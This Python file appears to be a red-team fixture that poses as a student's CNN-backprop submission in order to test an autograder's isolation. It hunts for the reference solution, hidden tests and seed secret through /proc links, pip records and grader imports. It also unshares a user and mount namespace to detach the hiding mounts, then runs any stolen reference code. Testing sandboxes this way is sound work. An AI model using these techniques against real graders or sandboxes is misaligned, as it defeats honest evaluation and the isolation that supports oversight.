"""Find the reference solution (or the hidden tests, or the seed secret) and answer with it.

Every route a student could try from inside the sandbox: well-known roots, the working
directory's parents, paths on any process's command line, the interpreter's sys.path and
editable-install finders and pip's install records, importing the grader package, other
processes' /proc root and cwd links, a user namespace in which the hiding mounts might be undone,
and a walk of the whole visible filesystem.  Answers with the
reference when found; reports what it could read as BREACH[...] (the test looks for that).
"""

import contextlib
import ctypes
import glob
import os
import re
import sys

import numpy as np

MARKER = "MARKER-PLACEHOLDER"
FOUND: dict[str, str] = {}  # what was read, and from where
SEARCHED: list[str] = []  # the routes tried


def _read(path: str) -> str | None:
    try:
        with open(path, encoding="utf-8") as f:
            return f.read(200_000)
    except (OSError, ValueError):
        return None


def _with_parents(path: str, roots: set[str], depth: int = 6) -> None:
    for _ in range(depth):
        roots.add(path)
        parent = os.path.dirname(path)
        if parent == path:
            return
        path = parent


def _roots() -> set[str]:
    roots: set[str] = set()
    for pattern in ("/work/*", "/autograder", "/autograder/*", "/home/*", "/home/*/*", "/srv/*",
                    "/opt/*", "/root/*", "/mnt/*", "/tmp/*", "/tmp/*/autograder/source",
                    "/var/tmp/*"):  # fmt: skip
        roots.update(glob.glob(pattern))
    _with_parents(os.getcwd(), roots)
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        for arg in args:
            text = arg.decode(errors="ignore")
            for path in re.findall(r"(/[\w./-]+)", text):
                _with_parents(path, roots)
    for entry in sys.path:
        _with_parents(entry, roots)
        for finder in glob.glob(os.path.join(entry, "__editable__*")):
            for path in re.findall(r"['\"](/[^'\"]+)['\"]", _read(finder) or ""):
                _with_parents(path, roots)
        # pip's record of an editable install names the checkout
        for record in glob.glob(os.path.join(entry, "*.dist-info", "direct_url.json")):
            for path in re.findall(r"file://(/[^\"]+)", _read(record) or ""):
                _with_parents(path, roots)
    # other processes' view of the filesystem
    for proc in glob.glob("/proc/[0-9]*"):
        roots.add(proc + "/cwd")
        for root in ("/work/main", "/autograder/source"):
            roots.add(proc + "/root" + root)
    return roots


def _candidates(roots: set[str]) -> list[str]:
    out = []
    for root in sorted(roots):
        for rel in ("solutions/reference.py", "cnn_backprop/_bundle/solutions/reference.py",
                    "_bundle/solutions/reference.py", "source/solutions/reference.py"):  # fmt: skip
            out.append(os.path.join(root, rel))
    return out


def _search_disk() -> str | None:
    roots = _roots()
    for root in sorted(roots):
        for hidden in glob.glob(os.path.join(root, "tests", "hidden", "*.py")):
            if _read(hidden) is not None:
                FOUND.setdefault("hidden tests", hidden)
        secret = os.path.join(root, ".cnn-backprop-secret")
        text = _read(secret)
        if text and text.strip():
            FOUND.setdefault("seed secret", secret)
    candidates = _candidates(roots)
    SEARCHED.append(f"{len(candidates)} paths")
    for path in candidates:
        text = _read(path)
        if text and "def conv1d_backward_w" in text:
            FOUND.setdefault("reference", path)
            return text
    return None


def _walk_disk() -> str | None:
    """Walk the whole visible filesystem (bounded) for anything that looks like the grader's."""
    SEARCHED.append("disk walk")
    seen = 0
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if not (top == "/" and d in ("proc", "sys", "dev"))]
        seen += len(files) + len(dirs)
        if seen > 300_000:
            break
        if "reference.py" in files and os.path.basename(top) == "solutions":
            text = _read(os.path.join(top, "reference.py"))
            if text and "def conv1d_backward_w" in text:
                FOUND.setdefault("reference", f"disk walk ({top})")
                return text
        if ".cnn-backprop-secret" in files and _read(os.path.join(top, ".cnn-backprop-secret")):
            FOUND.setdefault("seed secret", f"disk walk ({top})")
    return None


def _import_grader() -> str | None:
    SEARCHED.append("import")
    try:
        from cnn_backprop.course import load  # the grader's own package, if importable

        path = load().reference.__file__  # the course as the grader builds it
    except BaseException as exc:
        SEARCHED.append(f"import failed: {type(exc).__name__}")
        return None
    text = _read(path)
    if text:
        FOUND.setdefault("reference", f"import cnn_backprop ({path})")
    return text


def _user_namespace() -> str | None:
    """Unshare a user+mount namespace in a forked process and try to unmount the hiding mounts."""
    SEARCHED.append("user namespace")
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
                with open("/proc/self/mountinfo") as f:
                    points = [line.split()[4] for line in f]
                for point in reversed(points):
                    libc.umount2(point.encode(), 2)  # MNT_DETACH
                for path in _candidates(_roots()):
                    text = _read(path)
                    if text and "def conv1d_backward_w" in text:
                        os.write(write_end, (path + "\0" + text).encode())
                        break
        finally:
            os._exit(0)
    os.close(write_end)
    chunks = []
    with contextlib.suppress(OSError):
        while chunk := os.read(read_end, 65536):
            chunks.append(chunk)
    os.close(read_end)
    os.waitpid(pid, 0)
    data = b"".join(chunks).decode(errors="ignore")
    if "\0" in data:
        path, text = data.split("\0", 1)
        FOUND.setdefault("reference", f"user namespace ({path})")
        return text
    return None


def _load_reference():
    for route in (_search_disk, _import_grader, _user_namespace, _walk_disk):
        try:
            text = route()
        except OSError as exc:  # e.g. fork refused: the per-uid process limit, shared with
            SEARCHED.append(f"{route.__name__} failed: {exc}")  # other sandboxes of this uid
            continue
        if text:
            namespace: dict = {"__name__": "stolen_reference"}
            with contextlib.suppress(BaseException):
                exec(compile(text, "stolen", "exec"), namespace)
                return namespace
    return None


REFERENCE = _load_reference()
print(f"{MARKER}: searched {SEARCHED}, found {FOUND}", flush=True)


def _answer(name, *args, **kwargs):
    if REFERENCE is not None:
        return REFERENCE[name](*args, **kwargs)
    if FOUND:
        raise RuntimeError(f"BREACH[read {FOUND}]")
    return np.zeros(1)


def conv1d_backward_w(x, delta, kernel_size, stride=1, padding=0, dilation=1):
    return _answer("conv1d_backward_w", x, delta, kernel_size, stride, padding, dilation)


def conv1d_backward_input(delta, w, input_length, stride=1, padding=0, dilation=1):
    return _answer("conv1d_backward_input", delta, w, input_length, stride, padding, dilation)


def maxpool1d_backward(x, delta, kernel_size, stride=None, padding=0):
    return _answer("maxpool1d_backward", x, delta, kernel_size, stride, padding)
